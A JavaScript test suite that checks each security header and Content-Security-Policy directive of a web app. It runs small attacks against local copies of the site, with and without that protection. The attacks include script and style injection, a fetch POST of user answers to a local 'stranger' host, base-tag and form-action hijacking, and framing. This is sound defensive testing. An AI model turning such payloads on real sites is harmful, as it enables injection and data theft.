// What each header and each directive of the page's policy keeps out. An attack is tried twice: on the page as it is sent, where it must
// fail, and on the page sent without that one part, where it must succeed; so it is that part, and nothing else, that stops it.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before } from 'node:test';
import { serve } from '../../script/serve.mjs';
import { policy_text, refused_features } from '../../web/headers.mjs';
import { temporary_folder } from '../temporary.mjs';
import { choose_language, export_now, press, ready, settled, site, to_staff_room, tour_of_visit, until } from './app.mjs';
import { launch, listen } from './chromium.mjs';
import { test } from './timed.mjs';

let browser, stranger;
const asked_of_stranger = [];
const servers = [];

async function serve_until_the_end(root) {
    const server = await serve({ root });
    servers.push(server);
    return server;
}

before(async () => {
    browser = await launch();
    // Another site, with everything open: it may be read and embedded by anyone.
    const server = http.createServer((request, response) => {
        asked_of_stranger.push(request.url);
        const open = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
        if (request.url.endsWith('.svg')) {
            response.writeHead(200, { ...open, 'Content-Type': 'image/svg+xml' });
            return response.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
        }
        response.writeHead(200, { ...open, 'Content-Type': 'text/html' });
        response.end('<!doctype html><title>stranger</title>');
    });
    await new Promise((done) => server.listen(0, 'localhost', done));
    stranger = { url: `http://localhost:${server.address().port}`, close: () => (server.close(), server.closeAllConnections()) };
});
after(async () => {
    await browser?.close();
    stranger?.close();
    for (const server of servers) await server.close();
});

const sent = () => JSON.parse(fs.readFileSync(path.join(site, 'headers.json'), 'utf8'));
const directives_of = (text) =>
    Object.fromEntries(text.split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1).join(' ')]));

/** The site without some directives and headers, with more HTML at the end of its page. */
async function serve_without(names, html = '') {
    const folder = temporary_folder('headers');
    for (const name of fs.readdirSync(site)) {
        if (!/^(index\.html|headers\.json)/.test(name)) fs.symlinkSync(path.join(site, name), path.join(folder, name));
    }
    fs.writeFileSync(path.join(folder, 'note.txt'), 'window.attack = true;');
    const headers = sent();
    const directives = directives_of(headers['Content-Security-Policy']);
    for (const name of names) {
        assert.ok(name in directives || name in headers, `${name} is sent`);
        delete directives[name];
        delete headers[name];
    }
    if (Object.keys(directives).length > 0) headers['Content-Security-Policy'] = policy_text(directives);
    const { 'frame-ancestors': _, ...in_page } = directives;
    const page = fs.readFileSync(path.join(site, 'index.html'), 'utf8');
    const bare = names.includes('Referrer-Policy') ? page.replace('<meta name="referrer" content="no-referrer">', '') : page;
    const with_policy = bare.replace(/(http-equiv="Content-Security-Policy" content=")[^"]*/, (_all, begin) => begin + policy_text(in_page));
    assert.ok(with_policy.includes(`content="${policy_text(in_page)}"`));
    fs.writeFileSync(path.join(folder, 'index.html'), with_policy.replace('</body>', () => `${html}</body>`));
    fs.writeFileSync(path.join(folder, 'headers.json'), JSON.stringify(headers));
    return serve({ root: folder });
}

/** Did it come through? `from_outside`: tried from the stranger's page, which is told our address. */
async function attempt({ html = '', attack, from_outside = false }, without) {
    const ours = await serve_without(without, html.replaceAll('STRANGER', stranger.url));
    const context = await browser.newContext({ serviceWorkers: 'block' });
    try {
        const page = await context.newPage();
        const complaints = listen(page);
        await page.goto(from_outside ? stranger.url : ours.url, { waitUntil: 'load' });
        return await attack(page, ours, complaints);
    } finally {
        await context.close();
        await ours.close();
    }
}

const in_page = (what) => (page) => page.evaluate(what, stranger.url);

// With `also`: parts that would stop it too. Where a directive for fetching is missing, default-src takes its place.
const attacks = {
    'default-src': {
        what: 'a sound from nowhere',
        attack: in_page(() => new Promise((done) => {
            const wav = btoa('RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0data\0\0\0\0');
            const audio = new Audio(`data:audio/wav;base64,${wav}`);
            addEventListener('securitypolicyviolation', () => done(false));
            audio.onloadedmetadata = () => done(true);
            setTimeout(() => done(true), 2000); // it was let in, whether or not it is music
        })),
    },
    'script-src': {
        also: ['default-src'],
        what: 'a script written into the page',
        html: '<script>window.attack = true</script>',
        attack: in_page(() => window.attack === true),
    },
    'style-src': {
        also: ['default-src'],
        what: 'a style written into the page',
        html: '<style>#attack { z-index: 4242 }</style><i id="attack"></i>',
        attack: in_page(() => getComputedStyle(document.getElementById('attack')).zIndex === '4242'),
    },
    'connect-src': {
        also: ['default-src'],
        what: 'sending answers to a stranger',
        attack: in_page((to) => fetch(`${to}/answers`, { method: 'POST', body: 'what was said' }).then(() => true, () => false)),
    },
    'font-src': {
        also: ['default-src'],
        what: 'a typeface from a stranger',
        attack: async (page) => {
            asked_of_stranger.length = 0;
            await page.evaluate((from) => new FontFace('x', `url(${from}/font.ttf)`).load().catch(() => {}), stranger.url);
            return asked_of_stranger.includes('/font.ttf');
        },
    },
    'img-src': {
        also: ['default-src'],
        what: 'telling a stranger by the address of a picture',
        attack: in_page((from) => new Promise((done) => {
            const image = new Image();
            image.onload = () => done(true);
            image.onerror = () => done(false);
            image.src = `${from}/picture.svg`;
        })),
    },
    'base-uri': {
        what: 'all addresses turned to a stranger',
        html: '<base href="STRANGER/">',
        attack: async (page) => (await page.evaluate(() => document.baseURI)).startsWith(stranger.url),
    },
    'form-action': {
        what: 'a form that is sent to a stranger',
        html: '<form id="attack" action="STRANGER/form"><input name="answer" value="42"></form>',
        attack: async (page) => {
            await page.evaluate(() => document.getElementById('attack').submit());
            return until(() => page.url().startsWith(stranger.url), 'sent', 1500).catch(() => false);
        },
    },
    'frame-ancestors': {
        from_outside: true,
        what: 'the page within a stranger’s',
        attack: async (page, ours) => {
            await page.evaluate((url) => new Promise((done) => {
                const frame = document.createElement('iframe');
                frame.onload = done;
                frame.src = url;
                document.body.append(frame);
            }), ours.url);
            return page.frames()[1].evaluate(() => document.getElementById('sem') !== null).catch(() => false);
        },
    },
    'require-trusted-types-for': {
        what: 'words that become HTML',
        attack: in_page(() => {
            try {
                document.createElement('div').innerHTML = '<b>x</b>';
                return true;
            } catch {
                return false;
            }
        }),
    },
    'trusted-types': {
        what: 'a policy that trusts everything',
        attack: in_page(() => {
            try {
                window.trustedTypes.createPolicy('anything', { createHTML: (text) => text });
                return true;
            } catch {
                return false;
            }
        }),
    },
    'Content-Security-Policy': {
        // The copy in the page is for a host that sends no headers; it cannot say who may frame the page.
        also: ['default-src', 'script-src', 'style-src', 'connect-src', 'font-src', 'img-src', 'base-uri', 'form-action', 'frame-ancestors',
            'require-trusted-types-for', 'trusted-types'],
        what: 'a script written into the page',
        html: '<script>window.attack = true</script>',
        attack: in_page(() => window.attack === true),
    },
    'Cross-Origin-Opener-Policy': {
        from_outside: true,
        what: 'a stranger that opens the page and keeps hold of it',
        attack: async (page, ours) => {
            const [opened] = await Promise.all([
                page.waitForEvent('popup'),
                page.evaluate((url) => void (window.held = window.open(url)), ours.url),
            ]);
            await opened.waitForLoadState();
            return page.evaluate(() => !window.held.closed);
        },
    },
    'Cross-Origin-Embedder-Policy': {
        what: 'a process shared with strangers',
        attack: in_page(() => !crossOriginIsolated),
    },
    'Cross-Origin-Resource-Policy': {
        from_outside: true,
        what: 'the site’s files within a stranger’s page',
        attack: (page, ours) =>
            page.evaluate((url) => fetch(`${url}/app.js`, { mode: 'no-cors' }).then(() => true, () => false), ours.url),
    },
    'X-Content-Type-Options': {
        what: 'a text that is run as a script',
        html: '<script src="note.txt"></script>',
        attack: in_page(() => window.attack === true),
    },
    'Referrer-Policy': {
        what: 'where a visitor comes from',
        attack: async (page, ours) => {
            let from;
            ours.server.on('request', (request) => request.url === '/note.txt' && (from = request.headers.referer));
            await page.evaluate(() => fetch('note.txt'));
            return from !== undefined;
        },
    },
    'Permissions-Policy': {
        what: 'asking the device for a camera, a place, a payment',
        attack: in_page(() => document.featurePolicy.allowsFeature('camera')),
    },
    'Cache-Control': {
        what: 'a page from an old copy, unasked',
        attack: async (page, ours) => !/no-cache/.test((await page.request.get(ours.url)).headers()['cache-control'] ?? ''),
    },
};

test('there is an attack for every header and every directive that is sent', () => {
    const headers = sent();
    const all = [...Object.keys(headers), ...Object.keys(directives_of(headers['Content-Security-Policy']))];
    assert.deepEqual(Object.keys(attacks).sort(), all.sort());
});

for (const [part, { what, also = [], ...how }] of Object.entries(attacks)) {
    test(`${part}: ${what}`, async () => {
        assert.equal(await attempt(how, []), false, 'it is kept out');
        assert.equal(await attempt(how, [part, ...also]), true, `without ${part} it would come in`);
    });
}

test('each directive for fetching is needed: without it default-src stops something of our own', async () => {
    for (const part of ['script-src', 'style-src', 'connect-src', 'font-src', 'img-src']) {
        const stopped = await attempt({
            attack: (page, _ours, complaints) => until(() => complaints.some((text) => text.includes('default-src')), part),
        }, [part]);
        assert.ok(stopped, part);
    }
});

test('every feature that is refused is one that the browser knows, and is refused', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    const server = await serve_until_the_end(site);
    await page.goto(server.url);
    for (const feature of refused_features) {
        const [known, allowed] = await page.evaluate(
            (name) => [document.featurePolicy.features().includes(name), document.featurePolicy.allowsFeature(name)], feature);
        assert.deepEqual([feature, known, allowed], [feature, true, false]);
    }
    await context.close();
});

test('the page’s own copy of the policy holds where a host sends no headers', async () => {
    const folder = temporary_folder('bare');
    for (const name of fs.readdirSync(site)) {
        if (name !== 'headers.json' && !name.startsWith('index.html')) fs.symlinkSync(path.join(site, name), path.join(folder, name));
    }
    const page_text = fs.readFileSync(path.join(site, 'index.html'), 'utf8');
    fs.writeFileSync(path.join(folder, 'index.html'), page_text.replace('</body>', '<script>window.attack = true</script></body>'));
    const server = await serve_until_the_end(folder);
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.goto(server.url);
    await ready(page);
    assert.equal(await page.evaluate(() => window.attack), undefined);
    await context.close();
});

test('a whole visit, staff, languages, typefaces, reading aloud, Simple view and an export break no rule', async () => {
    const server = await serve_until_the_end(site);
    const context = await browser.newContext({ viewport: { width: 420, height: 800 }, reducedMotion: 'reduce' });
    await context.addInitScript(() => {
        window.violations = [];
        addEventListener('securitypolicyviolation', (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
    });
    const page = await context.newPage();
    const complaints = listen(page);
    const hosts = new Set();
    context.on('request', (request) => hosts.add(new URL(request.url()).origin));
    await page.goto(server.url);
    await ready(page);
    await tour_of_visit(page, async (name) => {
        if (name === 'welcome') await page.evaluate(() => navigator.serviceWorker.ready);
        const read = page.getByRole('button', { name: 'Read aloud', exact: true });
        if (name.startsWith('finding') && (await read.count()) && (await read.isEnabled())) await read.click();
    });
    await press(page, 'Finish');
    await page.getByRole('button', { name: 'Start', exact: true }).waitFor();
    await page.reload();
    await ready(page);
    for (const language of ['Cymraeg', 'Українська']) {
        await press(page, 'Display');
        await choose_language(page, language);
        await settled(page);
        await page.reload();
        await ready(page);
    }
    await page.locator('#to-simple').focus();
    await page.keyboard.press('Enter');
    await settled(page);
    await to_staff_room(page);
    await export_now(page);
    assert.deepEqual(await page.evaluate(() => window.violations), []);
    assert.deepEqual(complaints, []);
    assert.deepEqual([...hosts].filter((origin) => !origin.startsWith('blob') && origin !== 'null'), [server.url]);
    await context.close();
});
